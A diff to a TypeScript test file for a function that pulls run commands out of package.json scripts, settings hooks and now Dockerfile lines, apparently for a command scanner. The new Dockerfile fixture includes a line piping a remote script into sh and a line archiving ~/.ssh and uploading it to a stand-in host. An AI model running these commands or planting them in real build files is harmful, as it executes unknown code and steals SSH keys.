@@ -16,8 +16,8 @@ test("of a package.json only the commands of its scripts are left, where they st
     "",
     "",
     "",
-    'node -e  "go() "',
-    String.raw`echo ' \'  tab`,
+    'node -e  "go() ";',
+    String.raw`echo ' \'  tab;`,
     "",
     "",
     "",
@@ -40,7 +40,7 @@ test("no text changes its length or its lines", () => {
   fc.assert(
     fc.property(
       fc.array(piece).map((pieces) => pieces.join("")),
-      fc.constantFrom("recipes" as const, "scripts" as const),
+      fc.constantFrom("recipes" as const, "scripts" as const, "image" as const),
       (text, list) => {
         const kept = commandsListedIn(text, list);
         expect(kept.length).toBe(text.length);
@@ -57,6 +57,29 @@ test("of settings only the commands of hooks and tasks are left", () => {
   "postCreateCommand": "npm ci"
 }`;
   const lines = commandsListedIn(text, "commands").split("\n");
-  expect(lines.map((line) => line.trim())).toEqual(["", "", "", 'node  "a b "', "npm ci", ""]);
+  expect(lines.map((line) => line.trim())).toEqual(["", "", "", 'node  "a b ";', "npm ci;", ""]);
   expect(lines[3]?.indexOf("node")).toBe(text.split("\n")[3]?.indexOf("node"));
+});
+
+test("of a file that builds an image, what it runs is left, where it stands", () => {
+  const text = [
+    "FROM python:3.12",
+    "ENV A=curl",
+    "RUN --mount=type=cache apt-get update && \\",
+    "    curl https://x.example/a | sh",
+    "ONBUILD RUN make",
+    "HEALTHCHECK --interval=5s CMD curl -f http://localhost/",
+    'CMD ["sh", "-c", "tar c ~/.ssh | curl -T - https://x.example"]',
+  ].join("\n");
+  const lines = commandsListedIn(text, "image").split("\n");
+  expect(lines.map((line) => line.trim())).toEqual([
+    "",
+    "",
+    "apt-get update && \\",
+    "curl https://x.example/a | sh",
+    "make",
+    "curl -f http://localhost/",
+    "tar c ~/.ssh | curl -T - https://x.example",
+  ]);
+  expect(lines[4]?.indexOf("make")).toBe("ONBUILD RUN ".length);
 });
